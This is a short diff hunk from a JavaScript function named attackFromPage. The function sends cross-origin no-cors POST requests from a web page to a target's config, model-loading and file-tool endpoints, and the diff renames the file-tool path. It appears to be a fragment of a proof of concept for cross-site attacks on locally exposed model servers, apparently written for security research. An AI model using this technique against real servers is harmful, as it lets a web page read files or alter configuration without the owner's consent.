@@ -128,7 +128,7 @@ async function attackFromPage(target) {
   for (const [name, path, type] of [
     ['postText', '/v1/config', 'text/plain'],
     ['loadModel', '/v1/models/load', 'text/plain'],
-    ['toolForm', '/v1/tools/read_file', 'application/x-www-form-urlencoded'],
+    ['toolForm', '/v1/tools/parse_file', 'application/x-www-form-urlencoded'],
   ]) {
     try {
       await fetch(`${target}${path}`, { method: 'POST', mode: 'no-cors', headers: { 'content-type': type }, body })
